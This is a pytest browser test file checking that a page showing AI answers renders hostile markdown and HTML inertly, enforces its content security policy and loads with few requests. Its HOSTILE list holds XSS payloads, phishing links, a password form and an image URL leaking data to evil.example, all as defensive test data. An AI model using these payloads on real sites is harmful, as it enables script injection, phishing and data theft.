"""What an AI writes does nothing but be read; and the page costs little to open."""

from __future__ import annotations

from typing import Any

import pytest
from browsing import Served, Tab

pytestmark = pytest.mark.browser
HOSTILE = (
    "<script>window.bad = 1</script>",
    "<img src=x onerror='window.bad = 1'>",
    "![look](https://evil.example/pixel.png?d=secret)",
    "[click](javascript:window.bad=1)",
    "[click](data:text/html,<script>window.bad=1</script>)",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input type=password></form>",
    "<a href='https://evil.example' style='position:fixed;inset:0'>over</a>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<svg onload='window.bad = 1'><use href='https://evil.example/#x'/></svg>",
    "<base href='https://evil.example/'>",
    "[https://bank.example](https://evil.example/login)",
    "`](javascript:window.bad=1)` <math><mtext></math><!--\x1b[2J\u202eexe.txt\u202c-->",
    "<details open ontoggle='window.bad = 1'><object data='https://evil.example'></object><embed src=x></details>",
)
SEEN = """() => ({
  tags: [...document.querySelectorAll('.md :is(script, img, iframe, form, input, style, link, meta, svg, base,'
    + ' object, embed, details, [style])')].map(one => one.outerHTML),
  on: [...document.querySelectorAll('.md *')].flatMap(one => one.getAttributeNames().filter(a => a.startsWith('on'))),
  links: [...document.querySelectorAll('.md a')].map(one => [new URL(one.href).protocol, one.rel, one.innerText]),
  bad: window.bad ?? null, shown: getComputedStyle(document.body).display })"""


def test_hostile_answers_are_inert(tab: Tab) -> None:
    assert len(HOSTILE) == 16
    for text in HOSTILE:
        tab.ask(f"ECHO: {text}", "alpha")
        tab.answers(1)
        seen = tab.page.evaluate(SEEN)
        assert (seen["tags"], seen["on"], seen["bad"], seen["shown"]) == ([], [], None, "grid"), text
        for protocol, rel, said in seen["links"]:
            assert protocol == "https:" and "noopener" in rel and "noreferrer" in rel
            assert "evil.example" in said
    tab.ask("ECHO: " + "\n\n".join(HOSTILE), "alpha", "beta", way="moot/ask-many")
    tab.until("document.querySelector('.panel[aria-busy=false] .result')?.innerText.length > 20")
    seen = tab.page.evaluate(SEEN)

    assert (seen["tags"], seen["on"], seen["bad"]) == ([], [], None)
    assert [url for url in tab.asked if not url.startswith((tab.served.url, "data:", "blob:"))] == []


def test_a_hostile_question_is_shown_as_it_was_typed(tab: Tab) -> None:
    tab.ask("<b>bold</b> <img src=x onerror=alert(1)> ECHO: fine", "alpha")
    tab.answers(1)

    assert "<b>bold</b> <img src=x onerror=alert(1)>" in tab.page.locator(".question h2").inner_text()


def test_the_page_is_held_to_its_own_policy(tab: Tab) -> None:
    tab.page.evaluate(
        """() => { window.held = [];
        document.addEventListener('securitypolicyviolation', e => held.push(e.violatedDirective));
        const script = document.createElement('script');
        try { script.textContent = 'window.bad = 1' } catch { held.push('types') }
        const image = new Image(); image.src = 'https://evil.example/x.png'; document.body.append(image); }"""
    )
    tab.until("held.includes('img-src')")

    assert "types" in tab.page.evaluate("held")
    assert tab.page.evaluate("window.bad") is None
    tab.complaints.clear()


def test_opening_the_page_takes_eight_small_requests(context: Any, served: Served) -> None:
    first = Tab.of(context.new_page(), served)
    first.come_in()
    first.page.close()
    context.clear_cookies()
    page = context.new_page()
    page.goto(served.link())
    page.close()
    page = context.new_page()
    sizes: list[int] = []
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url.removeprefix(served.url)))
    wire = context.new_cdp_session(page)
    wire.send("Network.enable")
    wire.send("Network.setCacheDisabled", {"cacheDisabled": True})
    wire.on("Network.loadingFinished", lambda event: sizes.append(int(event["encodedDataLength"])))
    page.goto(served.url)
    Tab(page, served).until("document.querySelector('.ways')")
    page.wait_for_timeout(500)

    assert len(asked) <= 8, asked
    assert sum(sizes) <= 30 * 1024, (sum(sizes), asked)
